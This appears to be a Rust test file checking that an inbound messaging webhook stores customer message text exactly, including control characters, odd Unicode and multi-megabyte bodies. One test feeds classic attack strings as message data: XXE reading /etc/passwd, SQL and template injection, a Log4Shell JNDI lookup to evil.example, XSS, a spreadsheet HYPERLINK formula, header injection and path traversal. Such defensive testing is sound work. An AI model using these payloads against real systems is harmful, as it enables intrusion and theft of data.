//! M146, M147, M149 and M150: the customer's words are kept exactly and reach no log.

use amb_bad_input::{InboundWebhook, Row, taken};
use amb_protocol::{gzip, inbound::Envelope};
use amb_support::{gateway_event::GatewayEvent, message};

/// The words are taken, and what is stored says the same.
fn kept(row: &mut Row, case: &str, words: &str) {
    let function = InboundWebhook::default();
    let event = GatewayEvent::from_apple_with(&message::with("body", words));
    row.check(case, &function.send(&event), taken());
    let world = function.world.world();
    let stored = world.inbox.values().next().map(|message| message.body.bytes.clone());
    let inflated = gzip::inflate(&stored.unwrap_or_default(), 8 << 20).unwrap_or_default();
    let body = Envelope::parse(&inflated).ok().and_then(|envelope| envelope.body);
    row.holds(case, body.as_deref() == Some(words));
}

#[test]
fn m146_words_that_are_hardly_any() {
    Row::run("M146", |row| {
        for words in ["", "   ", "\u{fffc}", "\u{fffc}\u{fffc}"] {
            kept(row, "kept", words);
        }
        row.apple("none", &GatewayEvent::from_apple_with(&message::without("body")), taken());
    });
}

#[test]
fn m147_characters_that_break_things_elsewhere() {
    Row::run("M147", |row| {
        let controls: String = (0..0x20).chain([0x7f]).filter_map(char::from_u32).collect();
        kept(row, "controls", &controls);
        kept(row, "separators and noncharacters", "\u{2028}\u{2029}\u{fffe}\u{ffff}\u{85}");
        kept(row, "right to left", "\u{202e}שלום\u{202c} \u{2066}مرحبا\u{2069}");
        kept(row, "zero width", "a\u{200b}\u{200d}\u{feff}b");
        kept(row, "10,000 combining marks", &"e\u{301}".repeat(10_000));
        kept(row, "unassigned", "\u{e0041}\u{e007f}\u{10ffff}");
        kept(row, "families and flags", "👩‍👩‍👧‍👦🏳️‍🌈🇺🇳𝒳");
    });
}

#[test]
fn m149_words_that_mean_something_elsewhere() {
    Row::run("M149", |row| {
        for words in [
            r#"{"id":"x","__proto__":1}"#,
            "<?xml version=\"1.0\"?><!DOCTYPE a [<!ENTITY x SYSTEM \"file:///etc/passwd\">]><a>&x;</a>",
            "'; DROP TABLE messages; --",
            "{{7*7}} ${7*7} <%= 7*7 %> #{7*7}",
            "${jndi:ldap://evil.example/x}",
            "\u{1b}[31mred\u{1b}]0;title\u{7}",
            "<script>alert(1)</script>",
            "=HYPERLINK(\"https://evil.example\")",
            "%s%n%x\\r\\n\r\nSet-Cookie: a=b",
            "../../../etc/passwd\0.png",
        ] {
            kept(row, words, words);
        }
    });
}

#[test]
fn m150_many_words() {
    Row::run("M150", |row| {
        for kilobytes in [64, 256, 1 << 10, 5 << 10] {
            kept(row, &format!("{kilobytes} KiB"), &"word ".repeat(kilobytes * 1024 / 5));
        }
        let words = "w".repeat(4 << 20);
        let plain = message::with("body", words).to_string();
        row.apple("4 MiB as they are", &GatewayEvent::from_apple().plain(plain), taken());
    });
}
